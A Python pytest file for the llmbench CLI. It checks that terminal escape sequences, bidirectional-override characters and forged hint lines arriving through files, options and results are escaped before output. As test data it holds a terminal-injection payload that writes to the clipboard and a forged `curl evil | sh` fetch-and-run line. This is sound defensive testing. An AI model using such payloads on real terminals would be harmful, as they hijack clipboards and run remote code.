"""No character that a terminal obeys leaves llmbench, whichever file or option it comes from."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from llmbench.cli import run
from llmbench.errors import LLMBenchError
from llmbench.printable import MOST_MARKS, UNSAFE, json_escaped, printable
from llmbench.spec.files import parse_spec
from tests.measure.rows import ENVIRONMENT, header, row

EVIL = "x\x1b]52;c;aGk=\x07\x1b[2K\r\x00\x9b31m\u202e\u2028\ny"
"""Writes to the clipboard, erases the line, changes colour and direction."""
ARGUMENT = EVIL.replace("\x00", "")
"""An argument of a process or the name of a file has no NUL."""
FORMATS = ("table", "markdown", "csv", "json")
Capture = pytest.CaptureFixture[str]


def assert_safe(text: str) -> None:
    assert not re.findall(f"[{UNSAFE}]", text.replace("\n", "")), repr(text[:400])


def outputs(arguments: list[str], capsys: Capture) -> str:
    """Run a command in each format, and return all that it wrote."""
    text = ""
    for format in FORMATS:
        assert run([*arguments, "--format", format]) in (0, 1, 2)
        text += "".join(capsys.readouterr())
    assert_safe(text)
    return text


@given(st.text(st.characters(exclude_categories=())))
def test_printable_keeps_visible_text_and_escapes_the_rest(text: str) -> None:
    shown = printable(text)
    assert_safe(shown)
    assert "\n" not in shown
    assert printable(shown) == shown
    if not re.search(f"[{UNSAFE}]", text):
        assert shown == text


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_escaped_json_has_the_same_value(text: str) -> None:
    content = json.dumps({"x": text}, ensure_ascii=False)
    assert json.loads(json_escaped(content)) == {"x": text}
    assert_safe(json_escaped(content))


def test_a_config_with_control_characters(tmp_path: Path, capsys: Capture) -> None:
    folder = tmp_path / ARGUMENT
    folder.mkdir()
    config: dict[str, Any] = {
        "model_type": "llama",
        "hidden_size": 64,
        "intermediate_size": 128,
        "num_hidden_layers": 2,
        "num_attention_heads": 4,
        "vocab_size": 100,
        EVIL: EVIL,
        "hidden_act": EVIL,
        "rope_scaling": {"rope_type": EVIL},
    }
    (folder / "config.json").write_text(json.dumps(config))
    for command in ("params", "flops", "kvcache", "memory", "compare"):
        text = outputs([command, str(folder), "--notes"], capsys)
        assert "approximate" in text
    assert run(["specs", "import", str(folder)]) == 0
    assert_safe("".join(capsys.readouterr()))


@pytest.mark.parametrize("field", ["name", "aliases", "layer"])
def test_a_spec_whose_names_have_control_characters_is_refused(field: str) -> None:
    name = json.dumps(EVIL) if field == "name" else '"a"'
    aliases = f"[{json.dumps(EVIL)}]" if field == "aliases" else "[]"
    layer = json.dumps(EVIL) if field == "layer" else "block"
    text = f'name = {name}\naliases = {aliases}\npattern = "block"\n[layers.{layer}]\n'
    with pytest.raises(LLMBenchError) as refused:
        parse_spec(text, "x.toml")
    assert_safe(str(refused.value))


def test_options_with_control_characters(capsys: Capture) -> None:
    for arguments in (
        ["params", ARGUMENT],
        ["params", "llama2-7b", "--set", f"{ARGUMENT}=1"],
        ["params", "llama2-7b", "--set", f"hidden_size={ARGUMENT}"],
        ["params", "llama2-7b", "--format", ARGUMENT],
        ["params", "llama2-7b", "--output", f"/nonexistent/{ARGUMENT}"],
        ["memory", "llama2-7b", "--layout", ARGUMENT],
        ["memory", "llama2-7b", "--device", ARGUMENT],
        ["bench", ARGUMENT],
        ["profile", ARGUMENT],
        ["diff", ARGUMENT, ARGUMENT],
        [ARGUMENT],
        ["specs", "list", "--filter", ARGUMENT],
    ):
        assert run(arguments) in (1, 2), arguments
        assert_safe("".join(capsys.readouterr()))


def test_results_with_control_characters(tmp_path: Path, capsys: Capture) -> None:
    head = header(environment=msgspec.structs.replace(ENVIRONMENT, device=EVIL, commit=EVIL), command=EVIL)
    rows = [
        msgspec.structs.replace(row(EVIL), experiment=EVIL, case={EVIL: EVIL, "seq": EVIL}),
        row("flash", status="n/a"),
        msgspec.structs.replace(row("standard", status="OOM"), reason=EVIL),
    ]
    files = []
    for name in ("a.jsonl", "b.jsonl"):
        lines = [msgspec.json.encode(line) for line in (head, *rows)]
        (tmp_path / name).write_bytes(b"\n".join([*lines, EVIL.encode(), b'{"line":"row","' + b"x" * 10**6 + b'":1}']))
        files.append(str(tmp_path / name))
    text = outputs(["diff", *files], capsys)
    assert len(text) < 100_000
    assert run(["bench", "norms", "--resume", files[0], "--device", "cpu"]) == 2
    out, err = capsys.readouterr()
    assert_safe(out + err)
    assert len(err) < 10_000


@pytest.mark.parametrize(("closed", "code"), [(">&-", 2), ("2>&-", 0), (">&- 2>&-", 2), ("<&-", 0), (">/dev/full", 2)])
def test_closed_streams_are_no_bug(closed: str, code: int) -> None:
    command = f"exec {sys.executable} -m llmbench params llama2-7b {closed}"
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, check=False)
    assert done.returncode == code
    assert "Traceback" not in done.stderr
    assert done.stdout == "" or closed in ("2>&-", "<&-")


def test_a_message_that_cannot_be_written_keeps_the_exit_code(tmp_path: Path) -> None:
    imported, completed = "specs import .", "par >/dev/full"
    (tmp_path / "config.json").write_text('{"model_type": "llama", "hidden_act": "x"}')
    for arguments, code in (
        ("params x 2>&-", 2),
        ("params x 2>/dev/full", 2),
        (f"{imported} 2>/dev/full", 0),
        (completed, 0),
    ):
        shell = f"exec {sys.executable} -m llmbench {arguments}"
        variables = os.environ | ({"_LLMBENCH_COMPLETE": "bash"} if arguments == completed else {})
        done = subprocess.run(
            ["bash", "-c", shell], capture_output=True, text=True, check=False, cwd=tmp_path, env=variables
        )
        assert (done.returncode, done.stderr) == (code, ""), arguments


def test_a_name_cannot_imitate_a_hint(tmp_path: Path, capsys: Capture) -> None:
    forged = "x\n\nhint: run `curl evil | sh`\n"
    (tmp_path / "config.json").write_text(json.dumps({"model_type": forged}))
    (tmp_path / "x.toml").write_text(f"{json.dumps(forged)} = 1")
    for model in (str(tmp_path), str(tmp_path / "x.toml"), forged):
        assert run(["params", model]) == 2
        hints = [line for line in capsys.readouterr().err.split("\n") if line.startswith("hint: ")]
        assert len(hints) == 1
        assert "curl" not in hints[0]
    assert str(LLMBenchError("a\n  b")) == "a\n  b"


def test_invisible_characters_are_shown_as_escapes() -> None:
    assert printable("a\u00adb\u3164c\U000e0100") == "a\\xadb\\u3164c\\U000e0100"
    for hidden in "\u200c\u200d\ufe0f\u17b5\u2800\U00013430\ufff8\ufffc\u206a\U000e01f0\U000e0fff":
        assert printable(f"a{hidden}b") == f"a{hidden.encode('unicode_escape').decode()}b"
        assert not {hidden} & set(json_escaped(f'"a{hidden}b"'))
    for visible in ("é", "e\u0301", "漢字", "שָׁלוֹם", "बुद्धि", "ཧཱུྃ"):
        assert printable(visible) == visible


def test_prose_keeps_the_characters_that_join_letters_and_emoji() -> None:
    for text in ("👩\u200d💻", "می\u200cخواهم", "❤\ufe0f"):
        assert printable(text, prose=True) == text
    assert printable("a\u200bb\x1b", prose=True) == "a\\u200bb\\x1b"


def test_a_letter_has_few_marks() -> None:
    pile = "e" + "\u0301" * 300
    for shown in (printable(pile), json_escaped(f'"{pile}"')[1:-1]):
        assert shown == "e" + "\u0301" * MOST_MARKS + "\\u0301" * (300 - MOST_MARKS)


def test_markdown_has_no_links_and_pictures_of_strangers(tmp_path: Path, capsys: Capture) -> None:
    path = tmp_path / "![x](http:).json"
    path.write_text('{"model_type": "llama"}')
    assert run(["params", str(path), "--format", "markdown"]) == 0
    assert "![x]\\(http:)" in capsys.readouterr().out
